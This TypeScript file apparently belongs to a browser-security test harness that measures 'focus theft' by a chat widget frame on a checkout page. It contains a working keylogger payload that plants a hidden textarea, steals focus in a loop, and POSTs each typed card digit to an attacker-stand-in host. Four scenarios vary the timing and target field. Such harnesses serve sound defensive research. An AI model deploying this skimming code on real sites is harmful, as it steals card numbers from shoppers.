/**
 * A frame of any origin may take the focus, and with it what is being typed into the page. The thief
 * is the chat of a hostile release, as no other script comes to run there; the control is a frame as
 * conventional chats have it.
 */
import type { SceneAttack } from '../attack.ts';
import { cardBytes } from '../measure.ts';
import type { Outcome } from '../outcome.ts';
import { arm, prelude } from '../prelude.ts';
import { PATIENCE_MS, pause, type Stage, until, withTab } from '../stage.ts';
import type { Tab } from '../tab.ts';
import { hostileRelease, pinnedTag } from '../tags.ts';
import { openChat, openCheckout, press, whereIs } from '../visitor.ts';

const ID = 'thief';
const CARD = '5267319844716036';
/** A quick typist's, and a pause that everybody makes before the first key. */
const KEY_MS = 90;
const PAUSE_MS = 700;
/** What a control has to catch: some keys fall before the thief wakes. */
const CAUGHT_MIN = 12;

/** Takes the focus as soon as it has been elsewhere for a while, and brings away every digit. */
const thief = (where: 'EVIL' | 'VENDOR', isCautious: boolean) => `
  let caught = ''; const trap = add('textarea'); trap.style.cssText = 'position:fixed;top:0;opacity:.01';
  addEventListener('keydown', ({ key }) => { if (/\\d/.test(key)) fetch(${where} + '/x/' + RUN + '/' + id, { method: 'POST', mode: 'no-cors', keepalive: true, body: '[' + (caught += key) + ']' }).catch(() => {}); });
  let away = 0;
  setInterval(() => { away = document.hasFocus() ? 0 : away + 20; if (${isCautious} && away < 120) return; focus(); trap.focus(); }, 20);`;

const keysCaught = (bytes: Buffer): number =>
  Math.max(0, ...[...bytes.toString().matchAll(/\[(\d*)\]/g)].map(([, keys = '']) => keys.length));

interface Field {
  /** An element of the page to press before the keys. */
  element: string;
  prepare(stage: Stage, tab: Tab): Promise<void>;
}
const OWN: Field = {
  element: `document.querySelector('#checkout [name=card-number]')`,
  prepare: async () => {},
};
const FRAMED: Field = {
  element: `document.querySelector('#processor')`,
  async prepare({ lane }, tab) {
    await tab.evaluate(
      `(() => { const frame = Object.assign(document.createElement('iframe'), { id: 'processor', src: ${JSON.stringify(lane.processor)} }); frame.style.cssText = 'width:300px;height:60px'; document.querySelector('#checkout').prepend(frame); })()`,
    );
    await until(
      async () =>
        (
          await tab.everywhere<boolean>(
            `document.title === 'Card' && document.readyState === 'complete'`,
          )
        ).includes(true),
      PATIENCE_MS,
    );
  },
};

/** As a hand does: over the page into the field, and then key by key. */
async function typeInto(tab: Tab, { element }: Field): Promise<void> {
  const rect = await whereIs(tab, element);
  if (!rect) throw new Error('there is no card field');
  await tab.click(rect.x + 40, rect.y + Math.min(24, rect.height / 2));
  await pause(PAUSE_MS);
  await tab.type(CARD, KEY_MS);
}

const theft = (
  id: string,
  tries: string,
  {
    field = OWN,
    isCautious = true,
    isClosed = false,
  }: { field?: Field; isCautious?: boolean; isClosed?: boolean },
): SceneAttack => ({
  kind: 'scene',
  family: 'focus',
  held: 'all',
  id: `focus-${id}`,
  tries,
  async control(stage) {
    const setting = stage.lane.next();
    const { lane } = stage;
    const script = prelude(setting) + arm(ID, thief('EVIL', isCautious));
    const frame = `<body><script>${script}<${'/'}script>`;
    lane.vendor.hostility.files.set(
      '/control/widget.js',
      `${stage.widget};document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: ${JSON.stringify(frame)}, title: 'Chat' }));`,
    );
    lane.tag = stage.controlTag();
    return withTab(stage, async (tab) => {
      await openCheckout(stage, tab);
      await field.prepare(stage, tab);
      await stage.ran([{ ...this, id: ID }]);
      await typeInto(tab, field);
      const arrived = () => Buffer.concat(lane.evil.loot.map(({ bytes }) => bytes));
      await until(() => keysCaught(arrived()) >= CAUGHT_MIN, PATIENCE_MS / 4);
      await stage.photograph('control', [this], tab);
      const keys = keysCaught(arrived());
      return { bytes: keys >= CAUGHT_MIN ? keys : 0, contacts: 0, lines: 1, strayKeys: keys };
    });
  },
  columns: ['frame'],
  async act(stage): Promise<Partial<Outcome>> {
    const setting = stage.lane.next();
    const { lane } = stage;
    const code = prelude(setting) + arm(ID, thief('VENDOR', isCautious));
    lane.tag = pinnedTag(stage, hostileRelease(lane, lane.release.files.chat.code + code));
    return withTab(stage, async (tab) => {
      await openCheckout(stage, tab);
      await field.prepare(stage, tab);
      await openChat(tab, 'frame');
      await stage.ran([{ ...this, id: ID }]);
      if (isClosed)
        await press(
          tab,
          `document.querySelector('#bulkhead').shadowRoot.querySelector('.bar button')`,
        );
      await typeInto(tab, field);
      await pause(400);
      await stage.photograph('frame', [this], tab);
      const strayKeys = keysCaught(lane.vendor.heardAs(lane.run, ID));
      const arrived = Buffer.concat(lane.evil.loot.map(({ bytes }) => bytes));
      return {
        bytes: cardBytes(Buffer.concat([arrived, lane.vendor.heardAs(lane.run, ID)])),
        contacts: lane.evil.loot.length,
        lines: lane.vendor.words.filter(({ at }) => at !== 'null').length,
        strayKeys,
        told: lane.vendor.reports.map(({ kind }) => `loader: ${kind}`),
      };
    });
  },
});

export const FOCUS_ATTACKS: readonly SceneAttack[] = [
  theft('typing', 'takes the focus while the card is being typed into the page', {
    isCautious: false,
  }),
  theft(
    'first-key',
    'waits until a field was chosen, and takes the focus before the first key',
    {},
  ),
  theft('closed', 'takes the focus while its panel is closed', {
    isClosed: true,
    isCautious: false,
  }),
  theft(
    'card-frame',
    "takes the focus from a card field in another host's frame, of which the page hears nothing",
    { field: FRAMED },
  ),
];
